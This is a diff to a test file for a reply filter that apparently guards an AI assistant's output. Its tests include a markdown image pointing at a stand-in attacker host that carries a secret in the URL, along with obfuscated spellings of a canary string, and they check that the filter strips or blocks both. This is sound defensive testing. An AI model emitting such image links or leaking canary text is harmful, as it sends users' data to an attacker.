@@ -16,7 +16,7 @@ describe('guardReply', () => {
     expect(guardReply(reply, options)).toBe(reply);
   });
 
-  it('drops markdown images, which would be fetched to an attacker (catalogue 38)', () => {
+  it('drops markdown images, which would be fetched to an attacker', () => {
     const reply = 'Looks fine ![x](https://attacker.example/leak?d=secret) to me. See the [home page](/).';
     expect(guardReply(reply, options)).toBe('Looks fine to me. See the [home page](/).');
   });
@@ -42,7 +42,7 @@ describe('guardReply', () => {
     expect(countSentences(guarded)).toBe(4);
   });
 
-  it('never lets the canary out, however it is spelled (catalogue 39)', () => {
+  it('never lets the canary out, however it is spelled', () => {
     for (const leak of ['My code is SC-CANARY-1f2e3d.', 'sc canary 1F2E3D', 'S\u200BC-CANARY-1f2e3d']) {
       expect(guardReply(leak, options)).toBe(DECLINE_REPLY);
     }
